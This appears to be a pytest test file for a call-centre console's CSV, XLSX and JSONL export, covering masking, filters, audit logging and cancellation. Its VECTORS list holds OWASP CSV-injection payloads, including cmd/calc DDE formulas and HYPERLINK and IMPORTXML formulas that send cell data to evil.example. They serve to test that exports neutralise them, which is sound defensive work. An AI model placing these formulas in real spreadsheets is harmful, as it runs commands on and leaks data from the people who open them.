"""Export: documented columns, OWASP CSV-injection vectors inert, masking, types, filters, safety.

Journal rows are written straight through the ORM (tests/export_helpers.py). Files are read
back as a spreadsheet would read them: CSV with the csv module, XLSX with openpyxl.
"""

from __future__ import annotations

import csv
import json
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from export_helpers import (
    AGENT,
    LEAD,
    call_row,
    credit_row,
    insert_actions,
    insert_calls,
    insert_case,
)
from sqlalchemy import select

from console import audit
from console.context import ConsoleContext
from console.errors import PermissionDenied, UserError
from console.export import (
    HEADERS,
    CancelToken,
    ExportCancelled,
    ExportFilters,
    ExportRequest,
    run_export,
)
from console.export.safety import mask_notes, mask_number, neutralise
from console.models import AuditEntry
from console.phones import mask
from console.settings import load_settings

# OWASP "CSV injection" payloads, plus the tab/CR/LF and full-width variants.
VECTORS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1\n=2+2",
    "\uff1d1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A2), \"//a\")",
]


@pytest.fixture(autouse=True)
def _audit_key(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(audit.KEY_ENV, "test-key")


def _fill(ctx: ConsoleContext, n: int = 10, **kw) -> list[dict]:
    rows = [call_row(i, **kw) for i in range(n)]
    with ctx.journal.session() as s, s.begin():
        insert_calls(s, rows)
    return rows


def _csv(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 BOM"
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


def test_csv_columns_values_and_bom(ctx: ConsoleContext, tmp_path: Path) -> None:
    rows = _fill(ctx, 3, notes="客戶說簡訊寫試用結束")
    rows[1]["credit_total"] = Decimal("300")
    with ctx.journal.session() as s, s.begin():
        insert_actions(s, [credit_row(rows[0], "300"), credit_row(rows[0], "900", "pending_approval", 1)])
        insert_case(s, rows[0], "case-1")
    out = tmp_path / "calls.csv"
    result = run_export(ctx, LEAD, ExportRequest("csv", out))
    assert result.rows == 3 and result.masked
    got = _csv(out)
    assert list(got[0]) == list(HEADERS)
    first = got[0]
    assert first["call_id"] == "call-000000"
    assert first["started_at"] == "2026-03-02 09:00:00"  # local (Asia/Taipei) time
    assert first["duration_s"] == "240" and first["after_call_work_s"] == "60"
    assert first["actions"] == "issue_credit VOD 300.00 TWD; issue_credit VOD 900.00 TWD (pending_approval)"
    assert first["case_id"] == "case-1" and first["finding_codes"] == "duplicate_charge"
    assert first["notes"] == "客戶說簡訊寫試用結束"
    assert first["phone"] == mask("+886900000000") == "*********000"
    assert [r["case_id"] for r in got[1:]] == ["", ""]


def test_owasp_vectors_inert_in_csv_and_xlsx(ctx: ConsoleContext, tmp_path: Path) -> None:
    rows = [call_row(i, notes=v, agent_id=f"-A{i}", customer_id="@C1") for i, v in enumerate(VECTORS)]
    with ctx.journal.session() as s, s.begin():
        insert_calls(s, rows)
    run_export(ctx, LEAD, ExportRequest("csv", tmp_path / "x.csv"))
    got = _csv(tmp_path / "x.csv")
    assert len(got) == len(VECTORS)
    for row, vector in zip(got, VECTORS, strict=True):
        assert row["notes"] == "'" + vector
        assert row["agent_id"].startswith("'-A") and row["customer_id"] == "'@C1"
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r\n\uff1d", value

    run_export(ctx, LEAD, ExportRequest("xlsx", tmp_path / "x.xlsx"))
    ws = openpyxl.load_workbook(tmp_path / "x.xlsx").active
    assert [c.value for c in ws[1]] == list(HEADERS)
    for r, vector in enumerate(VECTORS, start=2):
        notes = ws.cell(r, HEADERS.index("notes") + 1)
        # XlsxWriter stores a CR as the OOXML escape _x000D_ (Excel shows a CR).
        assert notes.data_type == "s" and notes.value.replace("_x000D_", "\r") == "'" + vector
        for cell in ws[r]:
            assert cell.data_type != "f"


def test_xlsx_types_header_filter_and_widths(ctx: ConsoleContext, tmp_path: Path) -> None:
    rows = _fill(ctx, 4, credit_total=Decimal("1234.50"))
    with ctx.journal.session() as s, s.begin():
        insert_actions(s, [credit_row(rows[0], "1234.50")])
    run_export(ctx, LEAD, ExportRequest("xlsx", tmp_path / "t.xlsx"))
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    col = {h: i + 1 for i, h in enumerate(HEADERS)}
    started = ws.cell(2, col["started_at"]).value
    assert isinstance(started, datetime) and started == datetime(2026, 3, 2, 9, 0)
    credit = ws.cell(2, col["credit_total"]).value
    assert isinstance(credit, int | float) and not isinstance(credit, bool) and credit == 1234.5
    assert ws.cell(2, col["credit_total"]).number_format == "#,##0.00"
    assert ws.cell(2, col["duration_s"]).value == 240
    assert ws.cell(1, 1).font.bold
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:O{len(rows) + 1}"
    assert ws.column_dimensions["O"].width > 40  # notes


def test_masked_by_default_unmasked_for_leads_and_audited(ctx: ConsoleContext, tmp_path: Path) -> None:
    _fill(ctx, 1, phone_e164="+886912345678", notes="ID A123456789, call back on 0912-345-678 or +886 2 2345 6789")
    run_export(ctx, LEAD, ExportRequest("jsonl", tmp_path / "m.jsonl"))
    masked = json.loads((tmp_path / "m.jsonl").read_text(encoding="utf-8"))
    assert masked["phone"] == "*********678"
    assert "A123456789" not in masked["notes"] and "A1*****789" in masked["notes"]
    assert "345-678" not in masked["notes"] and "2345 6789" not in masked["notes"]
    assert masked["notes"].startswith("ID A1*****789, call back on *******678 or *********789")

    run_export(ctx, LEAD, ExportRequest("csv", tmp_path / "u.csv", unmasked=True))
    row = _csv(tmp_path / "u.csv")[0]
    assert row["phone"] == "'+886912345678"  # a leading + is a formula start: neutralised
    assert "A123456789" in row["notes"]
    with pytest.raises(PermissionDenied):
        run_export(ctx, AGENT, ExportRequest("csv", tmp_path / "no.csv", unmasked=True))
    with ctx.journal.session() as s:
        entries = [(e.action, e.actor, (e.details or {}).get("masked")) for e in
                   s.scalars(select(AuditEntry).order_by(AuditEntry.seq))]
        assert audit.verify(s).ok
    assert entries == [("export.started", "L001", True), ("export.finished", "L001", True),
                       ("export.started", "L001", False), ("export.finished", "L001", False)]


def test_mask_helpers_agree_with_phones_mask() -> None:
    for number in ("+886912345678", "+88622345678", "+15551234567", "+1234", "12", "0912-345-678"):
        assert mask_number(number) == mask(number)
    assert neutralise("plain") == "plain" and neutralise("=1") == "'=1" and neutralise("") == ""
    assert mask_notes("no digits here") == "no digits here"
    assert mask_notes("order 1234567") == "order 1234567"  # 7 digits: not a phone


def test_filters(ctx: ConsoleContext, tmp_path: Path) -> None:
    rows = [call_row(i) for i in range(6)]
    rows[0].update(outcome="escalated", root_cause="sales_promise", finding_codes=["promo_not_applied"])
    rows[1].update(started_at=rows[1]["started_at"].replace(day=4), finding_codes=None)
    rows[2].update(demo=True)
    with ctx.journal.session() as s, s.begin():
        insert_calls(s, rows)

    def ids(**kw) -> list[str]:
        out = tmp_path / "f.jsonl"
        run_export(ctx, LEAD, ExportRequest("jsonl", out, ExportFilters(**kw), overwrite=True))
        return [json.loads(line)["call_id"][-1] for line in out.read_text().splitlines()]

    assert ids() == ["0", "3", "4", "5", "1"]  # demo calls left out, oldest first
    assert ids(outcomes=("escalated",)) == ["0"]
    assert ids(root_causes=("sales_promise", "website_rule")) == ["0"]
    assert ids(findings=("promo_not_applied",)) == ["0"]
    assert ids(findings=("duplicate_charge",)) == ["3", "4", "5"]
    assert ids(agents=("A002",)) == ["4", "1"]
    from datetime import date

    assert ids(date_from=date(2026, 3, 3)) == ["1"]
    assert ids(date_to=date(2026, 3, 2)) == ["0", "3", "4", "5"]
    with pytest.raises(UserError, match="unknown outcome"):
        ids(outcomes=("won",))
    with pytest.raises(UserError, match="after"):
        ids(date_from=date(2026, 3, 5), date_to=date(2026, 3, 1))


def test_cancel_leaves_no_file_and_keeps_the_old_one(ctx: ConsoleContext, tmp_path: Path) -> None:
    _fill(ctx, 50)
    (tmp_path / "out").mkdir()
    out = tmp_path / "out" / "calls.csv"
    out.write_text("previous export\n")
    token = CancelToken()
    seen: list[tuple[int, int]] = []

    def progress(done: int, total: int) -> None:
        seen.append((done, total))
        if done >= 20:
            token.cancel()

    with pytest.raises(ExportCancelled):
        run_export(ctx, LEAD, ExportRequest("csv", out, overwrite=True), progress=progress, cancel=token, batch=10)
    assert out.read_text() == "previous export\n"
    assert [p.name for p in out.parent.iterdir()] == ["calls.csv"]
    assert seen[:3] == [(0, 50), (10, 50), (20, 50)]
    with ctx.journal.session() as s:
        last = s.scalars(select(AuditEntry).order_by(AuditEntry.seq.desc())).first()
    assert last.action == "export.cancelled" and last.details["rows"] == 20


def test_failure_midway_leaves_no_partial_file(ctx: ConsoleContext, tmp_path: Path, monkeypatch) -> None:
    _fill(ctx, 30)
    calls = {"n": 0}
    from console.export import writers

    real = writers.CsvWriter.write_rows

    def flaky(self, rows) -> None:
        calls["n"] += 1
        if calls["n"] == 2:
            raise OSError("disk full")
        real(self, rows)

    monkeypatch.setattr(writers.CsvWriter, "write_rows", flaky)
    (tmp_path / "out").mkdir()
    with pytest.raises(OSError):
        run_export(ctx, LEAD, ExportRequest("csv", tmp_path / "out" / "c.csv"), batch=10)
    assert list((tmp_path / "out").iterdir()) == []


def test_jsonl_keeps_structure(ctx: ConsoleContext, tmp_path: Path) -> None:
    rows = _fill(ctx, 1, credit_total=Decimal("300"))
    with ctx.journal.session() as s, s.begin():
        insert_actions(s, [credit_row(rows[0], "300")])
    run_export(ctx, LEAD, ExportRequest("jsonl", tmp_path / "j.jsonl"))
    obj = json.loads((tmp_path / "j.jsonl").read_text(encoding="utf-8"))
    assert list(obj) == list(HEADERS)
    assert obj["started_at"] == "2026-03-02T09:00:00+08:00" and obj["credit_total"] == "300.00"
    assert obj["actions"] == [{"kind": "issue_credit", "service_code": "VOD", "amount": "300.00",
                               "currency": "TWD", "status": "applied"}]
    assert obj["finding_codes"] == ["duplicate_charge"]


def test_bad_requests_are_one_line(ctx: ConsoleContext, tmp_path: Path) -> None:
    with pytest.raises(UserError, match="folder not found"):
        run_export(ctx, LEAD, ExportRequest("csv", tmp_path / "missing" / "x.csv"))
    with pytest.raises(UserError, match="is a folder"):
        run_export(ctx, LEAD, ExportRequest("csv", tmp_path))
    with pytest.raises(UserError, match="unknown format"):
        run_export(ctx, LEAD, ExportRequest("ods", tmp_path / "x.ods"))


def test_cli_export(ctx: ConsoleContext, customer_url: str, journal_url: str, tmp_path: Path,
                    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    from console.auth import add_user
    from ui.launcher import main

    monkeypatch.setattr("console.auth._hasher", __import__("argon2").PasswordHasher(time_cost=1, memory_cost=1024))
    add_user(ctx, None, "L001", name="Lin", role="lead", secret="lead-password")
    add_user(ctx, ctx_lead(ctx), "A001", name="Amy", role="agent", secret="agent-password")
    _fill(ctx, 5)
    base = ["--db", customer_url, "--journal", journal_url]
    out = tmp_path / "cli.csv"
    monkeypatch.setenv("AGENT_CONSOLE_PASSWORD", "lead-password")
    assert main([*base, "--agent", "L001", "export", "--format", "csv", "--out", str(out),
                 "--from", "2026-03-02", "--to", "2026-03-02", "--agent", "A001", "--outcome", "resolved"]) == 0
    assert "2 calls written" in capsys.readouterr().out
    assert [r["agent_id"] for r in _csv(out)] == ["A001", "A001"]
    monkeypatch.setenv("AGENT_CONSOLE_PASSWORD", "agent-password")
    assert main([*base, "--agent", "A001", "export", "--format", "csv", "--out", str(out), "--unmasked"]) == 5
    assert "may not" in capsys.readouterr().err
    assert main([*base, "--agent", "L001", "export", "--format", "csv", "--out", str(out), "--from", "March"]) == 2
    assert capsys.readouterr().err.count("\n") == 1


def ctx_lead(ctx: ConsoleContext):
    from console.auth import authenticate

    return authenticate(ctx, "L001", "lead-password")


@pytest.mark.postgres
def test_export_from_postgresql(pg_url: str, tmp_path: Path) -> None:
    settings = load_settings(db=f"sqlite:///{tmp_path / 'c.sqlite3'}", journal=pg_url, agent="L001", role="lead")
    with ConsoleContext(settings) as pg_ctx:
        rows = _fill(pg_ctx, 25, notes="=1+1 客戶")
        with pg_ctx.journal.session() as s, s.begin():
            insert_actions(s, [credit_row(rows[3], "300")])
            insert_case(s, rows[3], "case-pg")
        for fmt in ("csv", "xlsx"):
            out = tmp_path / f"pg.{fmt}"
            result = run_export(pg_ctx, LEAD, ExportRequest(fmt, out, ExportFilters(findings=("duplicate_charge",))),
                                batch=10)
            assert result.rows == 25
        got = _csv(tmp_path / "pg.csv")
        assert got[3]["actions"] == "issue_credit VOD 300.00 TWD" and got[3]["case_id"] == "case-pg"
        assert got[0]["started_at"] == "2026-03-02 09:00:00" and got[0]["notes"] == "'=1+1 客戶"
        ws = openpyxl.load_workbook(tmp_path / "pg.xlsx").active
        assert isinstance(ws.cell(2, 2).value, datetime) and ws.max_row == 26


@pytest.mark.parametrize("unmasked", [False, True])
def test_sqlite_fast_csv_is_byte_identical_to_the_generic_path(ctx: ConsoleContext, tmp_path: Path,
                                                                monkeypatch, unmasked: bool) -> None:
    rows = [call_row(i, notes=v) for i, v in enumerate(VECTORS)]
    rows += [
        call_row(20, notes=None, phone_e164=None, root_cause=None, finding_codes=None, duration_s=None, acw_s=None),
        call_row(21, notes="ID A123456789, 0912-345-678 / +886 2 2345 6789", phone_e164="0912345678",
                 customer_id=None, finding_codes=[], credit_total=Decimal("1234.56")),
        call_row(22, notes="多行\n備註, with \"quotes\"", phone_e164="+1234", agent_id="=A9",
                 finding_codes=["notice_contradicts_contract", "duplicate_charge"], credit_total=Decimal("0.05")),
        # Only full-width digits: the fast path's GLOB once let it through unmasked (review 5.4).
        call_row(23, notes="電話０９１２３４５６７８ Ａ１２３４５６７８９ tel0912.345.678"),
    ]
    with ctx.journal.session() as s, s.begin():
        insert_calls(s, rows)
        insert_actions(s, [credit_row(rows[0], "300"), credit_row(rows[0], "1200.50", "pending_approval", 1),
                           credit_row(rows[1], "99", "rejected")]
                       + [dict(credit_row(rows[2], "1", n=2), kind="open_case", amount=None, service_code=None),
                          dict(credit_row(rows[2], "1", n=3), kind="suspend_service", amount=None, service_code="")])
        insert_case(s, rows[0], "case-b")
        insert_case(s, rows[0], "case-a")
    fast, slow = tmp_path / "fast.csv", tmp_path / "slow.csv"
    run_export(ctx, LEAD, ExportRequest("csv", fast, unmasked=unmasked), batch=4)
    from console.export import service

    monkeypatch.setattr(service, "fixed_offset_minutes", lambda conn, f: None)
    run_export(ctx, LEAD, ExportRequest("csv", slow, unmasked=unmasked), batch=4)
    assert fast.read_bytes() == slow.read_bytes()
    assert len(_csv(fast)) == len(rows)
    if not unmasked:
        assert _csv(fast)[-1]["notes"] == "電話*******６７８ Ａ１*****７８９ tel*******678"


def test_zone_with_daylight_saving_uses_the_generic_path(ctx: ConsoleContext, tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    from datetime import UTC

    from console.export import service

    ran: list[str] = []
    for name, path in (("stream_csv_rows", "fast"), ("stream_batches", "generic")):
        real = getattr(service, name)
        monkeypatch.setattr(service, name, lambda *a, _real=real, _path=path, **k: ran.append(_path) or _real(*a, **k))
    with ctx.journal.session() as s, s.begin():
        insert_calls(s, [call_row(0, started_at=datetime(2026, 3, 28, 12, 0, tzinfo=UTC)),
                         call_row(1, started_at=datetime(2026, 3, 30, 12, 0, tzinfo=UTC))])
    out = tmp_path / "berlin.csv"
    run_export(ctx, LEAD, ExportRequest("csv", out, ExportFilters(tz="Europe/Berlin")))
    assert [r["started_at"] for r in _csv(out)] == ["2026-03-28 13:00:00", "2026-03-30 14:00:00"]
    assert ran == ["generic"]  # the offset changes between the two calls: no single-offset fast path
    ran.clear()
    run_export(ctx, LEAD, ExportRequest("csv", tmp_path / "taipei.csv", ExportFilters(tz="Asia/Taipei")))
    assert ran == ["fast"]  # and the spy does tell the two apart
